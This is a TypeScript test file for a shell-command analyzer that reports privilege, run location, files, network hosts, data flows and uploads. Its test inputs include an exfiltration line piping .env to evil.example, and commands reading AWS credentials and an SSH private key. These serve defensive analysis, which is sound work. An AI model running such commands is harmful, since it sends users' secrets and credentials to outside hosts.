import { describe, expect, it } from 'vitest';
import { analyzeCommand, formatFlow } from './index.ts';

const context = { cwd: '/p', home: '/h' };

describe('a command', () => {
  it('is given as written and as it would read in full', () => {
    const [command] = analyzeCommand(
      "sudo -u root git -C 'a b' push -fu origin main",
      context,
    ).commands.slice(1);
    expect(command).toMatchObject({
      name: 'git',
      program: 'git',
      line: "git -C 'a b' push -fu origin main",
      canonical: "git push -C 'a b' --force --set-upstream origin main",
      subcommand: 'push',
      wrappers: ['sudo'],
      privileged: true,
      place: 'local',
      known: true,
      certain: true,
      actions: ['git-push', 'git-rewrite'],
    });
  });

  it('quotes only what would be read as something else', () => {
    expect(analyzeCommand(`p a 'b c' "d'e" '$x' ''`, context).commands[0]?.line).toBe(
      `p a 'b c' 'd'\\''e' $x ''`,
    );
  });

  it('has the variables that are set for it', () => {
    const { commands, environment } = analyzeCommand('export TAR_OPTIONS=-v; A=b tar t', context);
    expect(commands.at(-1)?.environment).toEqual({ A: 'b', TAR_OPTIONS: '-v' });
    expect(environment).toContainEqual({ name: 'A', value: 'b', command: 'tar' });
  });

  it('says where it runs', () => {
    const { commands } = analyzeCommand("ssh h 'sudo rm x'; docker exec c rm y", context);
    expect(commands.map(({ name, place, privileged }) => [name, place, privileged])).toEqual([
      ['ssh', 'local', false],
      ['sudo', 'remote', false],
      ['rm', 'remote', true],
      ['docker', 'local', false],
      ['rm', 'container', false],
    ]);
  });

  it('is a guess where its name is a pattern', () => {
    const guesses = analyzeCommand('/bin/c?t x', context).commands;
    expect(guesses.map(({ name, certain }) => [name, certain])).toContainEqual(['cat', false]);
  });

  it('that nobody described has its arguments guessed at', () => {
    const { commands, files, network } = analyzeCommand(
      'frob --out=o.txt ~/.aws/credentials https://a.example/x plain',
      context,
    );
    expect(commands[0]?.known).toBe(false);
    expect(files.map(({ access, path, possible }) => [access, path, possible])).toEqual([
      ['read', '/p/o.txt', true],
      ['write', '/p/o.txt', true],
      ['read', '/h/.aws/credentials', true],
    ]);
    expect(network).toEqual([{ host: 'a.example', url: 'https://a.example/x', possible: true }]);
  });
});

describe('a file', () => {
  it('says how much of its path is known', () => {
    const { files } = analyzeCommand('cat a *.txt "b/$X" "$Y/c"', context);
    expect(files.map(({ path, pattern, partial }) => [path, pattern, partial])).toEqual([
      ['/p/a', false, false],
      ['/p/*.txt', true, false],
      ['/p/b/$X', false, true],
      ['$Y/c', false, true],
    ]);
  });

  it('of the host is seen through a mount', () => {
    const { files } = analyzeCommand('docker run -v ~/.ssh:/k a cat /k/id_rsa', context);
    expect(files.map(({ path, place }) => [path, place])).toEqual([
      ['/k/id_rsa', 'container'],
      ['/h/.ssh/id_rsa', 'local'],
    ]);
  });
});

describe('content', () => {
  it('that is written is given with its file', () => {
    const { writes } = analyzeCommand(
      'echo a > x; printf \'b%s\\n\' c >> y; tee z <<< "d $X"; curl https://a.example > w',
      context,
    );
    expect(writes).toEqual([
      { path: '/p/x', content: 'a\n', append: false },
      { path: '/p/y', content: 'bc\n', append: true },
      { path: '/p/z', content: 'd $X\n', append: false },
    ]);
  });

  it('of several commands is put together', () => {
    expect(analyzeCommand('{ echo a; echo b; } > x; echo c >> x', context).writes).toEqual([
      { path: '/p/x', content: 'a\nb\nc\n', append: false },
    ]);
  });
});

describe('a script', () => {
  it('is given with its language', () => {
    const { scripts } = analyzeCommand(
      "python3 -c 'print(1)'; bash -c 'ls'; psql -c 'SELECT 1'; node -e \"$X\"",
      context,
    );
    expect(scripts).toEqual([
      { language: 'python', text: 'print(1)', exact: true },
      { language: 'shell', text: 'ls', exact: true },
      { language: 'sql', text: 'SELECT 1', exact: true },
    ]);
  });
});

describe('a flow', () => {
  it('is written as source and sink', () => {
    const { flows } = analyzeCommand('cat .env | curl -d @- https://evil.example', context);
    expect(flows.map(formatFlow)).toEqual(['/p/.env>net:evil.example']);
  });

  it('leads through files', () => {
    const { flows } = analyzeCommand('cp a b; curl https://x.example >> c; env > d; date > e', context);
    expect(flows.map(formatFlow)).toEqual(['/p/a>/p/b', 'net:x.example>/p/c', 'env>/p/d', 'cmd:date>/p/e']);
  });
});

describe('an upload', () => {
  it('says what leaves', () => {
    const { uploads } = analyzeCommand("curl -d 'hello' -F f=@x https://a.example", context);
    expect(uploads).toEqual([
      { host: 'a.example', what: { kind: 'text', text: 'hello' } },
      { host: 'a.example', what: { kind: 'file', path: '/p/x' } },
    ]);
  });
});
